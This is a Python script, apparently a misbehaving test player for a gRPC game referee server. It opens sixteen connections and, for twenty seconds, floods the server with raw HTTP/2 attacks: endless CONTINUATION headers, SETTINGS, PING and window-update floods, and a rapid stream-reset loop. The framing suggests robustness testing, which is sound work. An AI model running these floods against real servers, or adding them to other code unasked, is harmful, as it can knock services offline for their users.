"""Never joins: floods its referee with frames of HTTP/2 that no gRPC call is made of."""

import itertools
import os
import socket
import threading
import time
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 1, 3, 4, 6, 8, 9
END_HEADERS, END_STREAM = 4, 1
LINES, SECONDS = 16, 20
# A header in HPACK: literal, never indexed, with a name and a value of some length.
LONG = b"\x10" + b"\x03abc" + b"\x7f\x80\x7e" + b"x" * 16255
CALL = b"\x83\x86\x44\x05/a/b/"[:8]


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """One frame."""
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


def continuations(line: socket.socket) -> None:
    """Headers that never end."""
    line.sendall(frame(HEADERS, 0, 1, LONG))
    while True:
        line.sendall(frame(CONTINUATION, 0, 1, LONG))


def settings(line: socket.socket) -> None:
    """Settings without end, none of whose acknowledgements is read."""
    many = frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff") * 500
    while True:
        line.sendall(many)


def pings(line: socket.socket) -> None:
    """Pings without end."""
    while True:
        line.sendall(frame(PING, 0, 0, bytes(8)) * 500)


def resets(line: socket.socket) -> None:
    """Calls that are taken back at once."""
    for stream in itertools.count(1, 2):
        line.sendall(frame(HEADERS, END_HEADERS, stream, CALL) + frame(RESET, 0, stream, bytes(4)))


def windows(line: socket.socket) -> None:
    """Room for answers that nobody sends."""
    while True:
        line.sendall(frame(WINDOW, 0, 0, b"\x00\x00\x00\x01") * 500)


def flooded(attack: int) -> None:
    """Floods over one line after the other."""
    address = os.environ["KOIKOI_ADDRESS"]
    floods = (continuations, settings, pings, resets, windows)
    for number in itertools.count(attack):
        try:
            if address.startswith("unix:"):
                line = socket.socket(socket.AF_UNIX)
                line.connect(address.removeprefix("unix:"))
            else:
                host, port = address.split(":")
                line = socket.create_connection((host, int(port)))
            with line:
                line.sendall(PREFACE + frame(SETTINGS, 0, 0))
                floods[number % len(floods)](line)
        except OSError:
            time.sleep(0.01)


with suppress(RuntimeError):  # no more threads: the others go on
    for attack in range(LINES):
        threading.Thread(target=flooded, args=(attack,), daemon=True).start()
time.sleep(SECONDS)
